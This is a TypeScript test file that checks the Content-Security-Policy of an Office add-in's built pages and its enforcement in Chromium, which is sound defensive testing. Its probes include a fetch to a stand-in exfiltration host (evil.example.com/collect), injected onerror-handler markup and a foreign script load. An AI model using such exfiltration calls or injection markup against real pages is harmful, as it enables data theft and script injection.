// The pages we ship (dist/, from `npm run build`) carry a Content-Security-Policy that allows only our
// own origin, Microsoft's Office CDN, Microsoft identity and Graph (+ the Outlook upload hosts), and no
// inline or eval'd script. Checked twice: the policy text of the built files, and what real Chromium
// enforces when the built task pane tries to reach elsewhere or run injected markup.
import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import type { Page } from "playwright-core";
import { isolateNetwork, launchBrowser, type LaunchedBrowser } from "../support/browser";
import { serveDirectory, type StaticServer } from "../support/static-server";

const distDir = path.resolve(__dirname, "../../dist");
const PAGES = ["taskpane.html", "dialog.html"];

/** Every source any directive may name, and which directives may name the special keywords. */
const ALLOWED_HOSTS = new Set([
  "https://appsforoffice.microsoft.com",
  "https://graph.microsoft.com",
  "https://login.microsoftonline.com",
  "https://outlook.office.com",
  "https://outlook.office365.com",
]);
const KEYWORDS_BY_DIRECTIVE: Record<string, string[]> = {
  "style-src": ["'self'", "'unsafe-inline'"], // Griffel (Fluent UI) inserts <style> at runtime
  "img-src": ["'self'", "data:", "blob:"],
  "font-src": ["'self'", "data:"],
  "object-src": ["'none'"],
};

function cspOf(page: string): Map<string, string[]> {
  const file = path.join(distDir, page);
  if (!existsSync(file)) throw new Error(`${file} not found: run npm run build first`);
  const html = readFileSync(file, "utf8");
  const metas = [
    ...html.matchAll(/<meta\b[^>]*http-equiv=["']?Content-Security-Policy["']?[^>]*>/gi),
  ];
  expect(metas).toHaveLength(1);
  const content = /content="([^"]*)"/i.exec(metas[0][0])![1].replace(/&#39;|&apos;/g, "'");
  return new Map(
    content
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...sources]) => [name.toLowerCase(), sources])
  );
}

describe.each(PAGES)("the built %s's policy", (page) => {
  test("defaults to our own origin and forbids plugins, foreign bases and forms", () => {
    const csp = cspOf(page);
    expect(csp.get("default-src")).toEqual(["'self'"]);
    expect(csp.get("object-src")).toEqual(["'none'"]);
    expect(csp.get("base-uri")).toEqual(["'self'"]);
    expect(csp.get("form-action")).toEqual(["'self'"]);
  });

  test("names only our origin, the Office CDN, Microsoft identity, Graph and Outlook upload hosts", () => {
    for (const [directive, sources] of cspOf(page)) {
      for (const source of sources) {
        const allowed =
          source === "'self'" ||
          ALLOWED_HOSTS.has(source) ||
          (KEYWORDS_BY_DIRECTIVE[directive] ?? []).includes(source);
        expect({ directive, source, allowed }).toEqual({ directive, source, allowed: true });
      }
    }
  });

  test("allows no inline or eval'd script, no wildcard, no plain http and no localhost", () => {
    const csp = cspOf(page);
    const scripts = csp.get("script-src") ?? csp.get("default-src")!;
    expect(scripts).not.toContain("'unsafe-inline'");
    expect(scripts).not.toContain("'unsafe-eval'");
    const all = [...csp.values()].flat();
    expect(
      all.filter(
        (s) => s.includes("*") || s === "https:" || s === "http:" || s.startsWith("http://")
      )
    ).toEqual([]);
    expect(all.filter((s) => /localhost|127\.0\.0\.1/.test(s))).toEqual([]);
  });

  test("sends no Referer anywhere: one referrer meta, no-referrer", () => {
    const html = readFileSync(path.join(distDir, page), "utf8");
    const metas = [...html.matchAll(/<meta\b[^>]*name=["']?referrer["']?[^>]*>/gi)];
    const content = (meta: string) => {
      const m = /content=(?:"([^"]*)"|'([^']*)'|([^\s>]+))/i.exec(meta);
      return m?.[1] ?? m?.[2] ?? m?.[3];
    };
    expect(metas.map((m) => content(m[0]))).toEqual(["no-referrer"]);
  });

  test("is the one policy object of webpack.config.js, as a production build writes it", () => {
    const { CSP } = require("../../webpack.config.js") as { CSP: Record<string, string[]> };
    expect(Object.fromEntries(cspOf(page))).toEqual(CSP);
  });

  test("lets the pane reach Graph, sign-in and the upload host (connect-src)", () => {
    const connect = cspOf(page).get("connect-src")!;
    if (page === "taskpane.html") {
      expect(connect).toEqual(
        expect.arrayContaining([
          "'self'",
          "https://graph.microsoft.com",
          "https://login.microsoftonline.com",
          "https://outlook.office.com",
        ])
      );
    }
  });
});

describe("what Chromium enforces on the built task pane", () => {
  let browser: LaunchedBrowser;
  let server: StaticServer;
  let elsewhere: StaticServer;
  let page: Page;

  beforeAll(async () => {
    server = await serveDirectory(distDir);
    elsewhere = await serveDirectory(distDir); // same files, another origin (another port)
    browser = await launchBrowser();
    await isolateNetwork(browser.context); // nothing leaves the machine; office.js from the package
    page = await browser.context.newPage();
    await page.addInitScript(() => {
      const w = window as unknown as { violations: Array<{ directive: string; blocked: string }> };
      w.violations = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        w.violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI })
      );
    });
    await page.goto(`${server.url}/taskpane.html`);
    await page.waitForLoadState("networkidle");
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await elsewhere?.close();
  });

  const violations = () =>
    page.evaluate(
      () =>
        (window as unknown as { violations: Array<{ directive: string; blocked: string }> })
          .violations
    );
  const clearViolations = () =>
    page.evaluate(() => ((window as unknown as { violations: unknown[] }).violations.length = 0));
  beforeEach(clearViolations);

  test("refuses connections to another origin, even on loopback, and to a foreign host", async () => {
    const results = await page.evaluate(
      async (urls) => {
        const out: string[] = [];
        for (const url of urls)
          out.push(
            await fetch(url).then(
              () => "fetched",
              () => "refused"
            )
          );
        return out;
      },
      [`${elsewhere.url}/taskpane.html`, "https://evil.example.com/collect"]
    );
    expect(results).toEqual(["refused", "refused"]);
    const seen = await violations();
    expect(seen.map((v) => v.directive)).toEqual(["connect-src", "connect-src"]);
    expect(seen[0].blocked).toContain(elsewhere.url);
  });

  test("does not refuse Graph, sign-in or the upload host by policy (the test network blocks them instead)", async () => {
    await page.evaluate(async () => {
      for (const url of [
        "https://graph.microsoft.com/v1.0/me",
        "https://login.microsoftonline.com/common/discovery/instance",
        "https://outlook.office.com/api/v2.0/",
      ])
        await fetch(url).catch(() => undefined);
    });
    expect(await violations()).toEqual([]);
  });

  test("requests from the pane carry no Referer, not even to its own origin", async () => {
    const referers: (string | null)[] = [];
    await page.route(`${server.url}/referrer-probe?*`, async (route) => {
      referers.push((await route.request().allHeaders()).referer ?? null);
      await route.fulfill({ body: "ok" });
    });
    await page.evaluate(() => fetch("/referrer-probe?from=pane").then((r) => r.text()));
    expect(referers).toEqual([null]);
  });

  test("injected markup cannot run script: no inline handlers, no foreign scripts", async () => {
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as { pwned?: number };
      const host = document.createElement("div");
      host.innerHTML = `<img src="data:," onerror="window.pwned=1"><img src="x" onerror="window.pwned=2">`;
      document.body.appendChild(host);
      const script = document.createElement("script");
      script.src = "https://evil.example.com/x.js";
      document.body.appendChild(script);
      await new Promise((r) => setTimeout(r, 300));
      return { pwned: w.pwned ?? null };
    });
    expect(outcome).toEqual({ pwned: null });
    const directives = (await violations()).map((v) => v.directive);
    expect(directives).toEqual(expect.arrayContaining(["script-src-attr", "script-src-elem"]));
  });

  test("a script of our own origin cannot eval strings (no 'unsafe-eval')", async () => {
    // Code evaluated through DevTools is exempt from the eval check, so the probe is a script the
    // page loads from its own origin, answered by the test (allowed by script-src 'self').
    await page.route(`${server.url}/eval-probe.js`, (route) =>
      route.fulfill({
        contentType: "text/javascript",
        body: `try { eval("1 + 1"); window.evalProbe = "ran"; } catch (e) { window.evalProbe = e.name; }
               try { new Function("return 1")(); window.functionProbe = "ran"; } catch (e) { window.functionProbe = e.name; }`,
      })
    );
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as { evalProbe?: string; functionProbe?: string };
      const script = document.createElement("script");
      script.src = "/eval-probe.js";
      await new Promise((resolve, reject) => {
        script.onload = resolve;
        script.onerror = reject;
        document.body.appendChild(script);
      });
      return { evalProbe: w.evalProbe, functionProbe: w.functionProbe };
    });
    expect(outcome).toEqual({ evalProbe: "EvalError", functionProbe: "EvalError" });
    expect((await violations()).map((v) => v.directive)).toContain("script-src");
  });
});
